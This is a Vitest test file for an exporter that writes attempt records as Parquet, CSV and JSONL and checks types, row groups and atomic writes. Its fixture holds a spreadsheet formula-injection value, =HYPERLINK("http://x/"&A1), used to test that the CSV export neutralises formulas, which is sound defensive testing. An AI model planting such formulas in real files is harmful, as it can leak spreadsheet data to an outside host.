import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { parse } from 'csv-parse/sync';
import { parquetMetadata } from 'hyparquet';
import { describe, expect, test } from 'vitest';
import type { AttemptRecord } from '../../src/core/manifest-record.ts';
import { fillAtomically } from '../../src/platform/atomic-file.ts';
import { nodeFiles } from '../../src/platform/node-files.ts';
import { type ExportFormat, exporterOf } from '../../src/telemetry/export-attempts.ts';
import { tempDir } from '../support/temp-dir.ts';
import { attempt } from './records.ts';

const RECORDS: readonly AttemptRecord[] = [
  attempt({
    timestamp: '2026-01-02T03:04:05.678Z',
    url: 'https://a.org/=1,"x"',
    host: 'a.org',
    resolver: '=HYPERLINK("http://x/"&A1)',
    verb: 'GET',
    http_status: 200,
    size_bytes: 5_000_000_000,
    duration_ms: 12.5,
    cache_hit: false,
    revalidated: true,
    extra: { why: 'Ü\n"', n: [1], identity: { verdict: 'unsure', score: 0.5 } },
  }),
  attempt({ doc_id: 'doi:10.1/b', status: 'parked', reason: 'retry-after' }),
];

async function exported(format: ExportFormat, records: readonly AttemptRecord[], path: string) {
  const files = nodeFiles();
  const write = await exporterOf(format);
  async function* all() {
    yield* records;
  }
  await fillAtomically(files, path, (file) => write(all(), (bytes) => file.write(bytes)));
  return Buffer.from(await files.read(path));
}

async function query(sql: string): Promise<readonly Record<string, unknown>[]> {
  const database = await DuckDBInstance.create(':memory:');
  const connection = await database.connect();
  const rows = (await connection.runAndReadAll(sql)).getRowObjectsJson();
  connection.closeSync();
  database.closeSync();
  return rows;
}

describe('an export of attempts', () => {
  test('as Parquet has typed columns, and DuckDB reads them back', async () => {
    await using dir = await tempDir();
    const path = join(dir.path, 'a.parquet');
    await exported('parquet', RECORDS, path);
    const columns = await query(`DESCRIBE SELECT * FROM '${path}'`);
    const types = Object.fromEntries(
      columns.map((column) => [String(column['column_name']), column['column_type']]),
    );
    expect(types).toMatchObject({
      timestamp: 'TIMESTAMP',
      doc_id: 'VARCHAR',
      http_status: 'INTEGER',
      size_bytes: 'BIGINT',
      duration_ms: 'DOUBLE',
      cache_hit: 'BOOLEAN',
      extra: 'JSON',
    });
    const rows = await query(
      `SELECT doc_id, timestamp, resolver, http_status, size_bytes, duration_ms, cache_hit, revalidated,
              extra->>'why' AS why, reason, identity, identity_score FROM '${path}'`,
    );
    expect(rows).toEqual([
      {
        doc_id: 'doi:10.1/a',
        timestamp: '2026-01-02 03:04:05.678',
        resolver: '=HYPERLINK("http://x/"&A1)',
        http_status: 200,
        size_bytes: '5000000000',
        duration_ms: 12.5,
        cache_hit: false,
        revalidated: true,
        why: 'Ü\n"',
        reason: null,
        identity: 'unsure',
        identity_score: 0.5,
      },
      expect.objectContaining({
        doc_id: 'doi:10.1/b',
        http_status: null,
        cache_hit: null,
        reason: 'retry-after',
      }),
    ]);
  });

  test('as Parquet goes over many row groups, and may be empty', async () => {
    await using dir = await tempDir();
    const path = join(dir.path, 'a.parquet');
    const many = Array.from({ length: 25_001 }, (_, n) => attempt({ attempt: n }));
    const bytes = await exported('parquet', many, path);
    const { row_groups } = parquetMetadata(new Uint8Array(bytes).buffer);
    expect(row_groups.map(({ num_rows }) => num_rows)).toEqual([10_000n, 10_000n, 5001n]);
    expect(await query(`SELECT count(*) AS n, sum(attempt) AS s FROM '${path}'`)).toEqual([
      { n: '25001', s: String((25_000 * 25_001) / 2) },
    ]);
    await exported('parquet', [], path);
    expect(await query(`SELECT count(*) AS n FROM '${path}'`)).toEqual([{ n: '0' }]);
  });

  test('as CSV has a header, and no cell starts a formula', async () => {
    await using dir = await tempDir();
    const text = (await exported('csv', RECORDS, join(dir.path, 'a.csv'))).toString();
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({
      timestamp: '2026-01-02T03:04:05.678Z',
      resolver: `'=HYPERLINK("http://x/"&A1)`,
      size_bytes: '5000000000',
      cache_hit: 'false',
      extra: '{"why":"Ü\\n\\"","n":[1],"identity":{"verdict":"unsure","score":0.5}}',
      identity: 'unsure',
      identity_score: '0.5',
    });
  });

  test('as JSONL is the records themselves, with their identity', async () => {
    await using dir = await tempDir();
    const text = (await exported('jsonl', RECORDS, join(dir.path, 'a.jsonl'))).toString();
    expect(
      text
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line) as unknown),
    ).toEqual([{ ...RECORDS[0], identity: 'unsure', identity_score: 0.5 }, RECORDS[1]]);
  });

  test('that breaks off leaves the file of before, and nothing beside it', async () => {
    await using dir = await tempDir();
    const files = nodeFiles();
    const path = join(dir.path, 'a.csv');
    await exported('csv', RECORDS, path);
    const before = await files.read(path);
    const write = await exporterOf('csv');
    async function* broken(): AsyncGenerator<AttemptRecord> {
      for (let n = 0; n < 2000; n++) yield attempt({ attempt: n });
      throw new Error('the disk is gone');
    }
    const filled = fillAtomically(files, path, (file) => write(broken(), (bytes) => file.write(bytes)));
    await expect(filled).rejects.toThrow('the disk is gone');
    expect(await files.list(dir.path)).toEqual(['a.csv']);
    expect(await files.read(path)).toEqual(before);
  });
});
